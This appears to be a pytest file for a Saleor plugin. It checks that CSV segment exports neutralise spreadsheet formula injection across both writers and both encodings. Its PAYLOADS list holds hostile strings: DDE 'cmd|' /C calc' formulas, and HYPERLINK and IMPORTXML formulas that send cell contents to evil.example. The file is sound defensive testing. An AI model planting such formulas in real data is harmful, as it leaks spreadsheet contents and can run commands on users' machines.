"""CSV formula injection: hostile company names in segment exports must reach a spreadsheet as
inert text (OWASP: a cell starting with = + - @ tab or CR gets a leading single quote), on
PostgreSQL's COPY path and on the Python path alike, while numbers stay numbers."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest
from django.test import Client

from saleor_ltv_plugin.api import exports
from saleor_ltv_plugin.ingest.orders import upsert_orders
from saleor_ltv_plugin.metrics.recompute import recompute
from saleor_ltv_plugin.models import Account, AccountMetrics, SavedSegment

from ..conftest import NOW, make_order

pytestmark = pytest.mark.django_db
BASE = "/plugins/global/saleor.ltv/api/v1/"
# What a spreadsheet evaluates (OWASP's list, and LF as the app adds), written here on purpose
# apart from the code under test.
ACTIVE_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"詳細")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
    "＝ＨＹＰＥＲＬＩＮＫ（全角）",  # NFKC makes the account key start with "="
    '=cmd,"quoted",;semi',
    "株式会社=普通の会社",  # an = inside is harmless and must stay as it is
]
# Leading tab / CR / LF do not survive company-name cleaning; a name can still hold them (metadata
# keys, later edits), so they are written straight onto the stored names.
RAW_NAMES = ["\t=1+1", "\r=1+1", "\n=1+1", "-", "@"]
TEXT_COLUMNS = ("name", "key", "channel", "currency", "stage", "cpm_cell", "rfm_segment")
NUMBER_COLUMNS = ("account_id", "r_score", "f_score", "m_score", "frequency", "monetary", "average_order_value",
                  "recency_days", "typical_interval_days", "overdue_ratio", "p_alive", "expected_purchases", "clv")


@pytest.fixture
def hostile_shop():
    orders = []
    for n, company in enumerate(PAYLOADS + [f"raw-{i}" for i in range(len(RAW_NAMES))]):
        for k, days in enumerate((200, 120, 40)):
            orders.append(make_order(f"h{n}-{k}", company=company, email=f"b{n}@hostile.example",
                                     created_at=NOW - timedelta(days=days)))
    upsert_orders(orders)
    recompute(now=NOW)
    for i, raw in enumerate(RAW_NAMES):
        Account.objects.filter(display_name=f"raw-{i}").update(display_name=raw)
    # Numbers that begin with "-" are numbers, not formulas: they must come out untouched.
    first = AccountMetrics.objects.order_by("account_id").first()
    AccountMetrics.objects.filter(pk=first.pk).update(monetary=Decimal("-1500"), overdue_ratio=-0.25,
                                                      average_order_value=Decimal("-500"))
    # Other text columns carry hostile text too.
    AccountMetrics.objects.filter(account__display_name=PAYLOADS[1]).update(
        rfm_segment="-cmd|calc", cpm_cell="@x", stage="+x")


def _rows(response, encoding: str = "utf-8-sig") -> list[dict]:
    """The export decoded as Excel would: UTF-8 after its BOM, or Shift_JIS (CP932)."""
    assert response.status_code == 200, response.content
    raw = b"".join(response.streaming_content)
    if encoding == "utf-8-sig":
        assert raw.startswith(b"\xef\xbb\xbf") and response["Content-Type"] == "text/csv; charset=utf-8"
        body = raw[3:].decode("utf-8")
    else:
        assert response["Content-Type"] == "text/csv; charset=shift_jis"
        body = raw.decode("cp932")
    return list(csv.DictReader(io.StringIO(body, newline="")))


def _stored() -> dict[int, dict]:
    rows = AccountMetrics.objects.values_list("account_id", "account__display_name", "account__key", "channel",
                                              "currency", "stage", "cpm_cell", "rfm_segment", *NUMBER_COLUMNS[1:])
    return {r[0]: dict(zip(("account_id",) + TEXT_COLUMNS + NUMBER_COLUMNS[1:], r)) for r in rows}


def _check(rows: list[dict]) -> None:
    stored = _stored()
    assert len(rows) == len(stored) == len(PAYLOADS) + len(RAW_NAMES)
    neutralised = 0
    for row in rows:
        truth = stored[int(row["account_id"])]
        for column in TEXT_COLUMNS:
            cell, value = row[column], truth[column] or ""
            assert not cell.startswith(ACTIVE_STARTS), (column, cell)
            if value.startswith(ACTIVE_STARTS):
                assert cell == "'" + value, (column, cell, value)
                neutralised += 1
            else:
                assert cell == value, (column, cell, value)
        for column in NUMBER_COLUMNS:
            value = truth[column]
            if value is None:
                assert row[column] == ""
            else:
                assert not row[column].startswith("'") and float(row[column]) == float(value), (column, row[column])
    names = {row["name"] for row in rows}
    assert "株式会社=普通の会社" in names and "'+cmd|' /C calc'!A0" in names
    assert neutralised == 7 + len(RAW_NAMES) + 3  # payload names, raw names, the three other text cells
    negative = [row for row in rows if row["monetary"].startswith("-1500")]
    assert len(negative) == 1 and float(negative[0]["overdue_ratio"]) == -0.25


@pytest.fixture(params=["copy", "python"])
def csv_path(request, monkeypatch):
    """The two writers of the export: PostgreSQL's COPY, and Python's csv for other databases."""
    if request.param == "python":
        monkeypatch.setattr(exports, "server_writes_csv", lambda: False)
    else:
        assert exports.server_writes_csv(), "the test database is PostgreSQL"
    return request.param


def test_filter_export_is_inert_in_a_spreadsheet(hostile_shop, csv_path, key_for):
    token = key_for()
    _check(_rows(Client(HTTP_AUTHORIZATION=f"Bearer {token}").get(BASE + "segments/export", {"format": "csv"})))


def test_saved_segment_export_is_inert_in_a_spreadsheet(hostile_shop, csv_path, key_for):
    token = key_for()
    segment = SavedSegment.objects.create(name="all", channel="default-channel", filter={})
    _check(_rows(Client(HTTP_AUTHORIZATION=f"Bearer {token}").get(BASE + f"segments/{segment.pk}/export")))


def test_json_export_keeps_names_as_they_are(hostile_shop, key_for):
    """JSON is data, not a spreadsheet: no quote is added there."""
    import json

    token = key_for()
    response = Client(HTTP_AUTHORIZATION=f"Bearer {token}").get(BASE + "segments/export", {"format": "json"})
    names = {json.loads(line)["name"] for line in b"".join(response.streaming_content).decode().splitlines()}
    assert set(PAYLOADS) <= names and "\t=1+1" in names


@pytest.mark.parametrize("encoding", ["utf-8-sig", "shift_jis"])
def test_both_encodings_decode_back_to_the_same_inert_cells(hostile_shop, csv_path, key_for, encoding):
    """Excel in Japan opens either file: the rows decode back, the formulas stay inert."""
    token = key_for()
    rows = _rows(Client(HTTP_AUTHORIZATION=f"Bearer {token}").get(
        BASE + "segments/export", {"format": "csv", "encoding": encoding}), encoding)
    _check(rows)
    assert any(row["name"] == "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"詳細\")" for row in rows)


# cp932 holds ①, ㈱ and 髙 (NEC/IBM extensions) but not emoji, 𠮷 or Hangul; NFKC would turn
# the superscript ⁼ into "=" — a formula — so that one must become 〓, as must those with no
# compatibility form; Ⅻ (not in cp932) becomes its NFKC form XII.
SJIS_NAMES = {"髙橋商店①㈱": "髙橋商店①㈱", "🍵お茶の𠮷野": "〓お茶の〓野", "⁼1+1": "〓1+1", "한글상사": "〓〓〓〓",
              "ｶﾀｶﾅ商会": "ｶﾀｶﾅ商会", "Ⅻ工房": "XII工房"}  # cp932 has Ⅰ…Ⅹ only: Ⅻ falls back to NFKC


def test_shift_jis_export_replaces_what_it_cannot_encode_visibly_and_never_into_a_formula(
        hostile_shop, csv_path, key_for):
    for account, name in zip(Account.objects.order_by("pk"), SJIS_NAMES):
        Account.objects.filter(pk=account.pk).update(display_name=name)
    token = key_for()
    rows = _rows(Client(HTTP_AUTHORIZATION=f"Bearer {token}").get(
        BASE + "segments/export", {"format": "csv", "encoding": "shift_jis"}), "shift_jis")
    names = {row["name"] for row in rows}
    for name, written in SJIS_NAMES.items():
        assert written in names, (name, sorted(names))
    assert not any(cell.startswith(ACTIVE_STARTS) for row in rows for cell in row.values()
                   if not cell.lstrip("-").replace(".", "", 1).isdigit())


def test_an_unknown_encoding_is_refused(key_for):
    response = Client(HTTP_AUTHORIZATION=f"Bearer {key_for()}").get(BASE + "segments/export", {"encoding": "latin-1"})
    assert response.status_code == 422 and response.json()["errors"][0]["field"] == "encoding"


def test_a_multibyte_character_split_across_chunks_survives_shift_jis():
    from saleor_ltv_plugin.api.spreadsheet_encoding import reencode

    text = "株式会社山田製作所,髙橋\n".encode()
    pieces = [text[i:i + 1] for i in range(len(text))]  # every character split between chunks
    assert b"".join(reencode(pieces, "shift_jis")).decode("cp932") == "株式会社山田製作所,髙橋\n"
